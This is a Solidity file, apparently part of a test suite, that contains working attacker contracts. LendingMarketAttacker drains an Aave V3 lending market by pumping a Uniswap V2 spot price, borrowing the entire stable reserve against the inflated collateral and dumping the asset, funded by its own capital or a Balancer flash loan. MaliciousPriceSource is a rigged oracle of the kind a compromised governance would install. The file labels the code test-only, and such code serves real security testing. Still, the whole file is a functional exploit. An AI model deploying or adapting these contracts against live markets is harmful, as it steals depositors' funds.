// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

/// @notice The ERC-20 functions the attacker uses.
interface IAttackToken {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

/// @notice A Uniswap V2 pair (IUniswapV2Pair).
interface IAttackPair {
    function getReserves() external view returns (uint112 reserve0, uint112 reserve1, uint32 blockTimestampLast);
    function token0() external view returns (address);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

/// @notice The Aave V3 pool (IPool), the part an attacker uses.
interface IAttackLendingPool {
    function supply(address asset, uint256 amount, address onBehalfOf, uint16 referralCode) external;
    function borrow(address asset, uint256 amount, uint256 interestRateMode, uint16 referralCode, address onBehalfOf) external;
    function getUserAccountData(address user)
        external
        view
        returns (uint256 totalCollateralBase, uint256 totalDebtBase, uint256 availableBorrowsBase, uint256 currentLiquidationThreshold, uint256 ltv, uint256 healthFactor);
    function flashLoanSimple(address receiverAddress, address asset, uint256 amount, bytes calldata params, uint16 referralCode) external;
}

/// @notice The Balancer V2 vault's flash loan (IVault.flashLoan).
interface IAttackFlashVault {
    function flashLoan(address recipient, address[] calldata tokens, uint256[] calldata amounts, bytes calldata userData) external;
}

/// @title LendingMarketAttacker
/// @notice Attacks an Aave V3 market whose volatile asset is priced from the spot reserves of a Uniswap V2
/// pair: buys the volatile asset to inflate its spot price, supplies a little of it as collateral, borrows
/// every unit of the stable reserve it can, and sells the volatile asset back. With its own capital
/// (`pumpAndBorrow`) or with a Balancer V2 flash loan (`attackWithBalancerFlashLoan`). Also borrows in slices (`supplyAndBorrow`) for drains
/// that follow an earlier step (a stolen mint, a malicious oracle source). Test-only attacker code.
contract LendingMarketAttacker {
    /// @notice The caller is not the attacker who deployed this contract.
    error LendingMarketAttackerNotOwner(address caller);
    /// @notice A flash-loan callback came from an address this contract did not borrow from.
    error LendingMarketAttackerUnexpectedLender(address caller);

    /// @notice One attack ended with `stableOut` of the stable asset sent to the owner.
    event AttackProfit(uint256 stableOut, uint256 volatileOut);

    address private immutable _owner;
    IAttackLendingPool private immutable _pool;
    IAttackPair private immutable _pair;
    IAttackToken private immutable _stable;
    IAttackToken private immutable _volatile;
    address private _lender;
    uint256 private _collateral;

    constructor(IAttackLendingPool pool, IAttackPair pair, IAttackToken stable, IAttackToken volatileAsset) {
        _owner = msg.sender;
        _pool = pool;
        _pair = pair;
        _stable = stable;
        _volatile = volatileAsset;
        stable.approve(address(pool), type(uint256).max);
        volatileAsset.approve(address(pool), type(uint256).max);
    }

    modifier onlyOwner() {
        if (msg.sender != _owner) revert LendingMarketAttackerNotOwner(msg.sender);
        _;
    }

    /// @notice One transaction with this contract's own funds: pump, borrow everything, dump, pay the owner.
    function pumpAndBorrow(uint256 pumpAmount, uint256 collateral) external onlyOwner {
        _pumpBorrowDump(pumpAmount, collateral);
        _payOwner();
    }

    /// @notice The same, funded by a Balancer V2 flash loan of `loan` of the stable asset.
    function attackWithBalancerFlashLoan(IAttackFlashVault vault, uint256 loan, uint256 collateral) external onlyOwner {
        address[] memory tokens = new address[](1);
        tokens[0] = address(_stable);
        uint256[] memory amounts = new uint256[](1);
        amounts[0] = loan;
        _lender = address(vault);
        _collateral = collateral;
        vault.flashLoan(address(this), tokens, amounts, "");
        _lender = address(0);
        _payOwner();
    }

    /// @notice Balancer's callback: the attack with the loan, then repayment with the fee.
    function receiveFlashLoan(address[] calldata tokens, uint256[] calldata amounts, uint256[] calldata feeAmounts, bytes calldata) external {
        if (msg.sender != _lender) revert LendingMarketAttackerUnexpectedLender(msg.sender);
        _pumpBorrowDump(amounts[0], _collateral);
        IAttackToken(tokens[0]).transfer(msg.sender, amounts[0] + feeAmounts[0]);
    }

    /// @notice Supplies `collateral` of the volatile asset (may be 0) and borrows `amount` of the stable
    /// asset (all it can when `amount` is 0), sending the borrowed amount to the owner.
    function supplyAndBorrow(uint256 collateral, uint256 amount) external onlyOwner {
        if (collateral > 0) _pool.supply(address(_volatile), collateral, address(this), 0);
        uint256 borrowed = amount == 0 ? _maxBorrow() : amount;
        _pool.borrow(address(_stable), borrowed, 2, 0, address(this));
        _stable.transfer(_owner, borrowed);
    }

    /// @notice Buys the volatile asset with `amount` of the stable asset on the pair (moves the spot price up).
    function pump(uint256 amount) external onlyOwner returns (uint256 bought) {
        bought = _swap(_stable, amount);
        _pumped += bought;
    }

    /// @notice Sells what `pump` bought back on the pair and sends everything this contract holds to the owner.
    function dumpAndWithdraw() external onlyOwner {
        uint256 amount = _pumped;
        _pumped = 0;
        if (amount > 0) _swap(_volatile, amount);
        _payOwner();
    }

    uint256 private _pumped;

    /// @dev The collateral comes from this contract's own balance of the volatile asset (funded beforehand).
    function _pumpBorrowDump(uint256 pumpAmount, uint256 collateral) private {
        uint256 bought = _swap(_stable, pumpAmount);
        _pool.supply(address(_volatile), collateral, address(this), 0);
        _pool.borrow(address(_stable), _maxBorrow(), 2, 0, address(this));
        _swap(_volatile, bought);
    }

    /// @dev The stable amount the market lends: the smaller of the borrowing power and the reserve's cash, less a margin.
    function _maxBorrow() private view returns (uint256) {
        (, , uint256 availableBase, , , ) = _pool.getUserAccountData(address(this));
        // base currency has 8 decimals, the stable asset 6; the oracle prices it at exactly 1
        uint256 power = (availableBase / 100) * 999 / 1000;
        (bool ok, bytes memory data) = address(_stable).staticcall(abi.encodeWithSignature("balanceOf(address)", _aTokenOfStable()));
        uint256 cash = ok ? abi.decode(data, (uint256)) : power;
        return power < cash ? power : cash;
    }

    address private _stableAToken;

    /// @notice Names the aToken holding the stable reserve (so `_maxBorrow` can cap at the cash).
    function setStableAToken(address aToken) external onlyOwner {
        _stableAToken = aToken;
    }

    function _aTokenOfStable() private view returns (address) {
        return _stableAToken;
    }

    function _swap(IAttackToken tokenIn, uint256 amountIn) private returns (uint256 amountOut) {
        (uint112 reserve0, uint112 reserve1, ) = _pair.getReserves();
        bool inIsToken0 = _pair.token0() == address(tokenIn);
        (uint256 reserveIn, uint256 reserveOut) = inIsToken0 ? (uint256(reserve0), uint256(reserve1)) : (uint256(reserve1), uint256(reserve0));
        uint256 withFee = amountIn * 997;
        amountOut = (withFee * reserveOut) / (reserveIn * 1000 + withFee);
        tokenIn.transfer(address(_pair), amountIn);
        (uint256 out0, uint256 out1) = inIsToken0 ? (uint256(0), amountOut) : (amountOut, uint256(0));
        _pair.swap(out0, out1, address(this), "");
    }

    function _payOwner() private {
        uint256 stableOut = _stable.balanceOf(address(this));
        uint256 volatileOut = _volatile.balanceOf(address(this));
        if (stableOut > 0) _stable.transfer(_owner, stableOut);
        if (volatileOut > 0) _volatile.transfer(_owner, volatileOut);
        emit AttackProfit(stableOut, volatileOut);
    }
}

/// @title MaliciousPriceSource
/// @notice A Chainlink-style source that answers whatever its deployer wants: what a compromised governance
/// installs as an asset's oracle source. Test-only attacker code.
contract MaliciousPriceSource {
    int256 private immutable _answer;

    constructor(int256 answer) {
        _answer = answer;
    }

    /// @notice The answer AaveOracle reads.
    function latestAnswer() external view returns (int256) {
        return _answer;
    }

    /// @notice Decimals of the answer.
    function decimals() external pure returns (uint8) {
        return 8;
    }
}
